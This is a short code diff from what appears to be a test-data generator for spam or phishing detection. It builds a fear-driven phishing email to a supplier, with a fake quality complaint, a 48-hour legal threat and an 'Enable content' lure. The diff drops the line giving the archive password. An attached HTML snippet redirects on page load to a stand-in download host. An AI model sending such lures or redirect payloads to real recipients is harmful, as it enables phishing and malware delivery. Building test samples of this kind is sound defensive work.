@@ -54,7 +54,7 @@ def _spam_by_fear() -> None:
         "Dear Supplier,\n\nA quality complaint has been filed against your company regarding defective product "
         "delivered last month. Quantity affected: 100%. You must respond within 48 hours or legal action will be "
         "initiated and your goods rejected.\n\nThe complaint form and photos of the defect are in the attachment. "
-        "The archive password is 2026. Enable content to view the form.\n\nRegards,\nClaims Department\n"
+        "Enable content to view the form.\n\nRegards,\nClaims Department\n"
     )
     script = b"<html><body onload=\"location='http://files.quick-claims.example/get'\">Loading form...</body></html>\n"
     raw = mail(
